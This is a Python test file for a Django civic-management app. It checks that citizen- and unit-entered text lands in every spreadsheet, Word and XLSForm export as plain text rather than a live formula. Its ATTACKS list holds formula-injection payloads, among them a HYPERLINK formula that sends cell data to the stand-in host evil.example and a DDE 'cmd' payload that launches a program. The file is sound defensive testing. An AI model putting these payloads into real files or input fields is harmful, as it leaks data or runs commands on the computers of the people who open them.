"""Issue 23: text typed by citizens and units reaches every spreadsheet the product writes as
text, never as a live formula or link. Each test fills the text fields behind one export with
the attacker's strings, downloads the export as the office would, and reads the file back."""

from __future__ import annotations

import io
import json
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from chuangwen.core.tests.test_xlsx import formulas_and_links
from chuangwen.core.xlsx import FORMULA_STARTS
from chuangwen.org.models import Unit
from chuangwen.problems.models import Problem, Status
from chuangwen.problems.tests.factories import category, jpeg_bytes

pytestmark = pytest.mark.django_db

# The tester's strings (issue 23), one per field in turn.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
]


def attack(n: int) -> str:
    return ATTACKS[n % len(ATTACKS)]


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_text_only(data: bytes, expected: list[str]) -> None:
    """No formula or hyperlink anywhere; each expected string is a text cell, shown as text."""
    assert formulas_and_links(data) == []
    cells = [c for sheet in load_workbook(io.BytesIO(data)) for row in sheet.iter_rows() for c in row]
    texts = {c.value for c in cells if c.data_type == "s"}
    missing = [text for text in expected if text not in texts]
    assert missing == [], f"not written as text: {missing}"
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS):
            assert c.quotePrefix, f"{c.coordinate} {c.value!r} would become a formula when edited"


def rename(unit: Unit, name: str) -> None:
    Unit.objects.filter(pk=unit.pk).update(name=name)


def test_problem_text_from_the_public_page_and_the_api_stays_text_in_the_ledger_and_12345_file(world):
    citizen = Client()
    citizen.get("/report/")
    photo = SimpleUploadedFile("a.jpg", jpeg_bytes(), content_type="image/jpeg")
    sent = citizen.post(
        "/report/",
        {
            "category": category().pk,
            "description": attack(0),
            "address": attack(1),
            "phone": "",
            "photos": [photo],
        },
    )
    assert sent.status_code == 302
    api = world.client("office")
    for n in range(len(ATTACKS)):
        created = api.post(
            "/api/problems/",
            json.dumps(
                {
                    "category_id": category().pk,
                    "description": attack(n),
                    "address": attack(n + 1),
                    "reporter_name": attack(n + 2),
                    "source": "hotline_12345",
                    "external_ref": f"{attack(n + 3)}#{n}",
                }
            ),
            content_type="application/json",
        )
        assert created.status_code == 201, created.content
    Problem.objects.update(measures=attack(4), status_note=attack(2))
    rename(world.street_a, attack(1))
    Problem.objects.update(unit=world.street_a)

    ledger = body(api.get(reverse("problems:ledger_xlsx")))
    assert_text_only(ledger, ATTACKS + [f"{attack(n + 3)}#{n}" for n in range(len(ATTACKS))])
    # The hotline's own layout: a closed order's reply is its measures, a returned one's its note;
    # an open one's reply joins its status, unit and deadline into one text cell.
    orders = list(Problem.objects.exclude(external_ref="").order_by("pk"))
    Problem.objects.filter(pk=orders[0].pk).update(status=Status.CLOSED, closed_at=timezone.now())
    Problem.objects.filter(pk=orders[1].pk).update(status=Status.NOT_APPLICABLE, closed_at=timezone.now())
    hotline = body(api.get(reverse("problems:hotline_export")))
    assert_text_only(hotline, [attack(4), attack(2)] + [f"{attack(n + 3)}#{n}" for n in range(len(ATTACKS))])

    # The bulletin's problem list is Word: the text is there, escaped, and no field code runs.
    listing = body(api.get(reverse("problems:list_docx")))
    with zipfile.ZipFile(io.BytesIO(listing)) as archive:
        xml = archive.read("word/document.xml").decode()
    assert "instrText" not in xml and "fldSimple" not in xml
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(listing)).paragraphs)
    assert all(a in text for a in ATTACKS)


def test_material_titles_places_and_organisers_stay_text_in_the_ledger_and_the_archive_index(world):
    from chuangwen.materials.tests.factories import file_activity, make_requirement

    requirement = make_requirement(world)
    file_activity(world, requirement, seeds=(11, 12), title=attack(0), place=attack(1), organiser=attack(2))
    file_activity(world, requirement, seeds=(13, 14), title=attack(3), place=attack(4), organiser=attack(0))
    rename(world.street_a, attack(3))
    office = world.client("office")

    assert_text_only(body(office.get(reverse("materials:ledger"))), ATTACKS)
    archive = zipfile.ZipFile(io.BytesIO(body(office.get(reverse("materials:archive"), {"all": "1"}))))
    index = next(name for name in archive.namelist() if name.endswith(".xlsx"))
    assert_text_only(archive.read(index), ATTACKS)


def test_task_tables_and_progress_ledgers_keep_unit_text_as_text(world):
    from chuangwen.materials.tests.factories import make_task
    from chuangwen.tasks.models import ProgressReport

    for n in range(len(ATTACKS)):
        task = make_task(world, title=attack(n), text=attack(n + 1))
        task.requirement, task.leader_text, task.arrangements = attack(n + 2), attack(n + 3), attack(n + 4)
        task.save()
        ProgressReport.objects.create(
            task=task,
            unit=world.street_a,
            month=timezone.localdate().replace(day=1),
            text=attack(n + 1),
            submitted_by=world.liaison_a,
        )
    office = world.client("office")
    assert_text_only(body(office.get(reverse("tasks:export"))), ATTACKS)
    assert_text_only(body(office.get(reverse("tasks:ledger"))), ATTACKS)


def test_points_checklists_and_duty_sheets_keep_names_addresses_and_notes_as_text(world):
    from chuangwen.points.models import DutyLog, PointType
    from chuangwen.points.tests.fixtures import field, make_point

    made = field(world)
    for n in range(len(ATTACKS)):
        make_point(world, name=attack(n) + f" {n}", code=f"ATK-{n}", address=attack(n + 1))
    PointType.objects.create(code="ATK", name=attack(2), group=attack(3), typical_checks=attack(4))
    type(made.point).objects.filter(pk=made.point.pk).update(name=attack(0), address=attack(1))
    DutyLog.objects.filter(pk=made.log.pk).update(note=attack(3))
    office = world.client("office")

    assert_text_only(body(office.get(reverse("points:export"))), [f"{attack(n)} {n}" for n in range(5)])
    assert_text_only(body(office.get(reverse("points:template_export"))), [attack(2), attack(3), attack(4)])
    record = office.get(
        reverse("points:duty_record", args=[made.point.pk]) + f"?date={made.shift.date:%Y-%m-%d}"
    )
    assert_text_only(body(record), [attack(0), attack(1), attack(3)])


def test_survey_answers_units_and_labels_stay_text_in_every_survey_export(world):
    from chuangwen.surveys.models import Question
    from chuangwen.surveys.tests.factories import questionnaire, respond, round_of

    q = questionnaire(world)
    Question.objects.filter(questionnaire=q, name="q9").update(label=attack(0))
    round_ = round_of(q)
    for n in range(len(ATTACKS)):
        respond(round_, world.community_a, world.office, q9=attack(n))
    rename(world.community_a, attack(1))
    office = world.client("office")

    assert_text_only(body(office.get(reverse("surveys:responses_export", args=[round_.pk]))), ATTACKS)
    assert_text_only(body(office.get(reverse("surveys:rates_export", args=[round_.pk]))), [attack(1)])
    assert_text_only(body(office.get(reverse("surveys:questionnaire_export", args=[q.pk]))), [attack(0)])


def test_monthly_assessments_and_star_ratings_keep_unit_and_aspect_names_as_text(world):
    from chuangwen.assessments import services as assessments
    from chuangwen.assessments.tests.fixtures import first_of_previous_month
    from chuangwen.stars import services as stars
    from chuangwen.stars.models import Aspect

    rename(world.street_a, attack(0))
    rename(world.community_a, attack(1))
    month = assessments.compute_month(world.campaign, first_of_previous_month(), world.office)
    year = timezone.localdate().year
    stars.open_rating(world.campaign, Unit.objects.get(pk=world.community_a.pk), year, world.office)
    Aspect.objects.filter(campaign=world.campaign, seq=1).update(name=attack(2))
    office = world.client("office")

    assert_text_only(body(office.get(reverse("assessments:export", args=[month.pk]))), [attack(0)])
    assert_text_only(body(office.get(reverse("stars:export"), {"year": year})), [attack(1), attack(2)])


def test_an_xlsform_written_from_a_questionnaire_reads_back_with_the_same_labels(world):
    from chuangwen.surveys.spec import DesignSpec, QuestionSpec
    from chuangwen.surveys.xlsform import parse_xlsform
    from chuangwen.surveys.xlsform_write import write_xlsform

    design = DesignSpec(title=attack(0), audience="citizen")
    design.questions = [QuestionSpec(name=f"t{n}", label=attack(n), kind="text") for n in range(5)]
    data = write_xlsform(design)
    assert_text_only(data, ATTACKS)
    assert [q.label for q in parse_xlsform(data).design.questions] == ATTACKS
